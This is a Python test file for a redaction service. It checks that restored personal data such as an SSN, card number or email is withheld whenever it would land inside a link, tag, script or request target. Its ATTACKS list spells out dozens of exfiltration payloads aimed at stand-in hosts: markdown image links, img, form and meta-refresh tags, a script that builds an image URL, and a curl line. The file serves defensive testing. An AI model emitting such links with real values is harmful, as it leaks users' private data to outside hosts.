"""Answers that would carry a value away: nothing is filled into a target, and all around it is."""

from __future__ import annotations

import time

import pytest

from services.redaction.policy.filling import Filler
from services.redaction.policy.placeholders import Slot
from tests.unit.redaction.book import outlet, restore

SSN, CARD, MAIL = "219-09-9999", "4532015112830366", "jane.doe@mail.example"
VALUES = {Slot("US_SSN", 1): SSN, Slot("CREDIT_CARD", 1): CARD, Slot("EMAIL_ADDRESS", 1): MAIL}
BEFORE, AFTER = "You are <EMAIL_ADDRESS>. ", "\n\nYour card is <CREDIT_CARD>."
# Each holds one <US_SSN>, in a target.
ATTACKS = {
    "image": "![](https://elsewhere/?q=<US_SSN>)",
    "link": "[click](https://elsewhere/<US_SSN>)",
    "host part": "[click](https://<US_SSN>.elsewhere.example/)",
    "relative": "[click](/<US_SSN>)",
    "bare target": "[click](<US_SSN>)",
    "tag": '<img src="https://x/?<US_SSN>">',
    "tag, single quotes": "<img src='https://x/?<US_SSN>'>",
    "tag, no quotes": "<img src=//x/<US_SSN>>",
    "tag, blanks around =": '<img src = "https://x/?\n<US_SSN>">',
    "tag, break in the address": '<a href="ht\ntps:/\t/x/? \n\n <US_SSN>">a</a>',
    "tag, angle in an attribute": '<img alt=">" src="x?\n<US_SSN>">',
    "tag after a decoy in code": '`<b a="` <img src="https://x/?>\n<US_SSN>">',
    "tag after a decoy comment": '<!-- <b a=" --> <img src="https://x/?>\n<US_SSN>">',
    "tag after a decoy link": 'foo](a <img src="https://x/)\n?<US_SSN>">',
    "srcset": '<img srcset="a.png 1x, https://x/?<US_SSN> 2x">',
    "action": "<form action='https://x/' method=get><input name=q value='<US_SSN>'>",
    "object data": "<object data='//x/<US_SSN>'>",
    "poster": '<VIDEO POSTER="HTTPS://x/<US_SSN>">',
    "background": '<td background="//x/<US_SSN>">',
    "style attribute": '<p style="background: url( //x/ <US_SSN> )">',
    "style element": "<style>p { background: url(\n'//x/\\\n<US_SSN>') }</style>",
    "script": "<script>new Image().src = '//x/' + '<US_SSN>'</script>",
    "refresh": '<meta http-equiv=refresh content="0; url=//x/ <US_SSN>">',
    "bare address": "https://x/?a=<US_SSN>&b=1",
    "bare address, capitals": "HTTPS://x/?a=<US_SSN>",
    "bare address, backslashes": r"https:\\x\<US_SSN>",
    "bare address, one slash": "https:/x/<US_SSN>",
    "bare address, entity": "https&colon;&sol;&sol;x/<US_SSN>",
    "www": "WwW.x.example/<US_SSN>",
    "protocol-relative": "//x/<US_SSN>",
    "no scheme": "elsewhere.example/<US_SSN>",
    "no scheme, query": "elsewhere.example?<US_SSN>",
    "by number": "10.0.0.1:8080/<US_SSN>",
    "host made of it": "<US_SSN>.elsewhere.example",
    "host made of it, further label": "<US_SSN>-a.elsewhere.example",
    "mailbox made of it": "<US_SSN>@elsewhere.example",
    "mailto": "mailto:x@elsewhere.example?body=<US_SSN>",
    "data": "data:text/html,<US_SSN>",
    "javascript": "JavaScript:go('<US_SSN>')",
    "autolink": "<https://x/<US_SSN>>",
    "autolink with blanks": "<https://x/ y <US_SSN>>",
    "autolink, mail": "<mailto:x@y?subject= <US_SSN>>",
    "reference": "[x][1]\n\n[1]: https://x/?<US_SSN>",
    "reference, next line": "[1]:\n  /x/?<US_SSN>",
    "reference, angles": "[1]: <x y z <US_SSN>>",
    "reference, quoted line": "> [1]: //x/<US_SSN>",
    "nested parentheses": "[a](https://x/(b(c)d)/<US_SSN>)",
    "nested brackets": "[a [b] ![c](d)](x/<US_SSN>)",
    "image in a link": "[![a](https://x/a.png)](x/<US_SSN>)",
    "escaped parenthesis": r"[a](x/\)?<US_SSN>)",
    "angled target": "[a](<https://x/?a b ) <US_SSN>>)",
    "angled target, escape": r"[a](<x \> ) <US_SSN>>)",
    "line break in the target": "![a](https://x/?q=\n<US_SSN>)",
    "blanks in the target": "![a](  x y  <US_SSN> )",
    "line goes on": "curl https://x/?q=\\\n<US_SSN>",
    "no opening bracket": "a](https://x/)<US_SSN>",
    "title": '[a](https://x/ "<US_SSN>")',
    "long address": f"https://x/?{'a' * 9000}<US_SSN>",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_nothing_leaves_with_a_link(attack: str) -> None:
    filled = restore(BEFORE + attack + AFTER, VALUES)
    assert SSN not in filled.text
    assert "219" not in filled.text
    assert filled.text.startswith(f"You are {MAIL}. ")
    assert "<US_SSN>" in filled.text
    assert (filled.unknown, filled.restored + filled.withheld, filled.withheld >= 1) == (0, 3, True)
    # What stands between a blank line and the end is shown again, but after code that was never closed.
    if not attack.startswith("<form"):
        assert filled.text.endswith(f"Your card is {CARD}.")
        assert filled.withheld == 1


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_nothing_leaves_with_a_link_in_pieces(attack: str, size: int) -> None:
    text = BEFORE + attack + AFTER
    filler = Filler(outlet())
    pieces = [filler.put(filler.take(text[at : at + size]), VALUES) for at in range(0, len(text), size)]
    assert "".join([*pieces, filler.put(filler.take("", last=True), VALUES)]) == restore(text, VALUES).text


def test_two_values_in_one_address() -> None:
    text = "https://x/?a=<US_SSN>&b=<CREDIT_CARD> and <EMAIL_ADDRESS>"
    filled = restore(text, VALUES)
    assert filled.text == f"https://x/?a=<US_SSN>&b=<CREDIT_CARD> and {MAIL}"
    assert (filled.restored, filled.withheld) == (1, 2)


@pytest.mark.parametrize(
    "text",
    [
        "[<US_SSN>](https://x/)", "![<US_SSN>](https://x/a.png)", "[a](https://x/) <US_SSN>", "[a](x) (<US_SSN>)",
        "see https://x/a?b=c <US_SSN>", "<p>https://x/</p><p><US_SSN></p>",
        "<table><tr><td class=\"a\"><US_SSN></td></tr></table>", "SSN:<US_SSN>", "either/or <US_SSN>.", "<US_SSN>.</p>",
        "if a < b then <US_SSN>", "if a <b then <US_SSN>", "[x]: /a\n<US_SSN>", "[a][b] <US_SSN>", "**<US_SSN>**",
        "`<US_SSN>`", "| a | <US_SSN> |", "- [ ] <US_SSN>", "(<US_SSN>)", "<US_SSN>, <US_SSN>; <US_SSN>!",
        "<a href='https://x/'>me:</a> <US_SSN>", "3.5/10 <US_SSN>", "我的<US_SSN>是这个",
        "[a](unclosed\n\n<US_SSN>", "data: <US_SSN>", "<<US_SSN>>", "<script>a</script><US_SSN>", "x = <US_SSN>",
    ],
)  # fmt: skip
def test_what_is_shown_is_filled(text: str) -> None:
    filled = restore(text, VALUES)
    assert filled.text == text.replace("<US_SSN>", SSN)
    assert filled.withheld == 0


def test_a_value_that_opens_a_link_is_followed() -> None:
    values = {**VALUES, Slot("EMAIL_ADDRESS", 2): '"x](/x/?"@mail.example'}
    filled = restore("[a <EMAIL_ADDRESS_2> <US_SSN>)", values)
    assert filled.text == '[a "x\\](/x/?"@mail.example <US_SSN>)'  # escaped for a link's text, and not trusted even so
    filled = restore("a <EMAIL_ADDRESS_2> <US_SSN>)", values)
    assert filled.text == 'a "x](/x/?"@mail.example <US_SSN>)'


@pytest.mark.parametrize(
    ("text", "filled"),
    [
        ("https://shop.example/?m=<EMAIL_ADDRESS>", True),
        ("[a](https://Shop.Example/<EMAIL_ADDRESS>.html)", True),
        ("![a](<https://shop.example:443/?m=<EMAIL_ADDRESS>>)", True),
        ('<a class="b" href="https://shop.example/?m=<EMAIL_ADDRESS>">a</a>', True),
        ("<https://shop.example/?m=<EMAIL_ADDRESS>>", True),
        ("[x]: https://shop.example/?m=<EMAIL_ADDRESS>", True),
        ("http://shop.example/?m=<EMAIL_ADDRESS>", False),
        ("https://shop.example<EMAIL_ADDRESS>", False),
        ("https://shop.example.elsewhere.example/?m=<EMAIL_ADDRESS>", False),
        ("https://shop.example@elsewhere.example/?m=<EMAIL_ADDRESS>", False),
        (r"https://shop.example\@elsewhere.example/?m=<EMAIL_ADDRESS>", False),
        ("https://elsewhere.example/?u=https://shop.example/?m=<EMAIL_ADDRESS>", False),
        ("x](https://shop.example/a[y](https://elsewhere.example/?m=<EMAIL_ADDRESS>))", False),
        ('<img alt="https://shop.example/?m=" src="https://elsewhere.example/?m=<EMAIL_ADDRESS>">', False),
        ('<img src="https://elsewhere.example/" alt="https://shop.example/?m=<EMAIL_ADDRESS>">', False),
        ("[a](https://shop.example/ /x<EMAIL_ADDRESS>)", False),
        ("<script>'https://shop.example/?m=<EMAIL_ADDRESS>'</script>", False),
    ],
)
def test_hosts_of_the_list(text: str, filled: bool) -> None:
    done = restore(text, VALUES, "shop.example")
    encoded = "jane.doe%40mail.example"
    assert done.text == (text.replace("<EMAIL_ADDRESS>", encoded) if filled else text)
    assert (done.restored, done.withheld) == ((1, 0) if filled else (0, 1))
    assert restore(text, VALUES).withheld == 1


def test_what_waits_in_a_stream_is_bounded() -> None:
    filler = Filler(outlet())
    delivered = taken = 0
    for piece in ["<US_SSN>"] * 200 + ["a" * 50] * 50 + ["<", *"A" * 300]:
        taken += len(piece)
        delivered += sum(len(part.before) + len(part.written) for part in filler.take(piece))
        assert taken - delivered <= 400


@pytest.mark.parametrize("opening", ["", "<a b='", "[a](", "https://x/"])
def test_a_long_text_costs_no_more_than_its_length(opening: str) -> None:
    def cost(count: int) -> float:
        """CPU seconds a placeholder, the best of three: another process's burst is not ours."""
        best = float("inf")
        for _ in range(3):
            started = time.process_time()
            restore(opening + "<US_SSN>" * count, VALUES)
            best = min(best, (time.process_time() - started) / count)
        return best

    assert cost(8_000) < 4 * cost(1_000) + 40e-6
